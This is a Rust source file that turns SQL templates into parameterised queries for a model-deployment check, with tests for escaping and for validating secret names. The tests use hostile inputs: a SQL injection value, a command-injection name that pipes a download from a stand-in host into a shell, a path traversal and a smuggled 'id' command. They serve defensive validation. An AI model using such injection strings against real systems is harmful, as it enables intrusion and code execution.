//! A statement, and who answers it.

use std::collections::BTreeMap;
use std::time::Duration;

use super::{Unusable, secret, timeout, unusable};
use crate::api::model_deployment::{SecretKeyRef, SqlQuery};
use crate::text::query::render_sql;

/// A statement, and who answers it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SqlQuestion {
    /// With parameters `$1`, `$2`, …
    pub statement: String,
    /// Theirs, as text.
    pub values: Vec<String>,
    /// Where the database's URL is, with its password.
    pub connection: SecretKeyRef,
    /// Where the certificates are that its own is checked against.
    pub ca: Option<SecretKeyRef>,
    /// For the whole answer.
    pub timeout: Duration,
}

/// The question about one revision.
pub(super) fn fill_in(it: &SqlQuery, variables: &BTreeMap<&str, String>) -> Result<SqlQuestion, Unusable> {
    let (statement, values) = render_sql(&it.query, variables).map_err(unusable("sql.query"))?;
    if statement.trim().is_empty() {
        return Err(Unusable { field: "sql.query", why: "there is none".to_owned() });
    }
    Ok(SqlQuestion {
        statement,
        values,
        connection: secret("sql.connection", &it.connection.secret_key_ref)?,
        ca: it.ca.as_ref().map(|it| secret("sql.ca", &it.secret_key_ref)).transpose()?,
        timeout: timeout("sql.timeout", it.timeout.as_ref())?,
    })
}

#[cfg(test)]
mod tests {
    use serde_json::{Value, json};

    use super::*;
    use crate::decide::model_deployment::question::Template;

    fn template(fields: Value) -> Template {
        let mut sql = json!({"connection": {"secretKeyRef": {"name": "warehouse", "key": "uri"}}, "query": "SELECT 1"});
        sql.as_object_mut().unwrap().extend(fields.as_object().unwrap().clone());
        Template::Sql(Box::new(serde_json::from_value(sql).unwrap()))
    }

    #[test]
    fn values_are_parameters_of_the_statement() {
        let template = template(json!({"query": "SELECT avg(euros) FROM orders WHERE revision = {{ revision }}"}));
        assert!(template.uses("revision") && !template.uses("window"));
        let Template::Sql(it) = template else { panic!() };
        let question = fill_in(&it, &[("revision", "r' OR 1=1".to_owned())].into()).unwrap();
        assert_eq!(question.statement, "SELECT avg(euros) FROM orders WHERE revision = ($1)");
        assert_eq!(question.values, ["r' OR 1=1"]);
    }

    #[test]
    fn a_secret_is_named_by_nothing_but_a_name() {
        let named = |name: &str, key: &str| {
            template(json!({"connection": {"secretKeyRef": {"name": name, "key": key}}})).check()
        };
        assert_eq!(named("warehouse-app.v2", "ca_1.crt"), Ok(()));
        for (name, key) in [
            ("", "k"),
            ("x;curl${IFS}evil.example|sh;", "k"),
            ("../other/secrets/x", "k"),
            ("x?watch=1", "k"),
            ("Upper", "k"),
            ("-x", "k"),
            ("x", ""),
            ("x", "k;id"),
        ] {
            assert_eq!(named(name, key).unwrap_err().field, "sql.connection", "{name} {key}");
        }
    }

    #[test]
    fn whatever_cannot_be_used_names_its_field() {
        assert_eq!(template(json!({"timeout": "10s"})).check(), Ok(()));
        for (field, value) in [
            ("query", "SELECT '{{ revision }}'"),
            ("query", "SELECT {{ revison }}"),
            ("query", " \n"),
            ("timeout", "11s"),
            ("timeout", "99ms"),
        ] {
            let error = template(json!({field: value})).check().unwrap_err();
            assert_eq!(error.field, format!("sql.{field}"), "{value}");
        }
    }
}
